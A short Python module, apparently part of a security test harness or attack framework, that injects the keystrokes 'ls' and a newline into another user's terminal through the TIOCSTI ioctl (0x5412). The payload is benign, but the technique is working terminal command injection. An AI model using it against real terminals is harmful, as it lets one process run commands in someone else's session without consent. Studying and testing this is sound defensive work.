"""Types a command into somebody's terminal by TIOCSTI."""

import fcntl


def attack(A):
    with open(TARGET["terminal"], "rb") as terminal:
        for letter in b"ls\n":
            fcntl.ioctl(terminal, 0x5412, bytes([letter]))
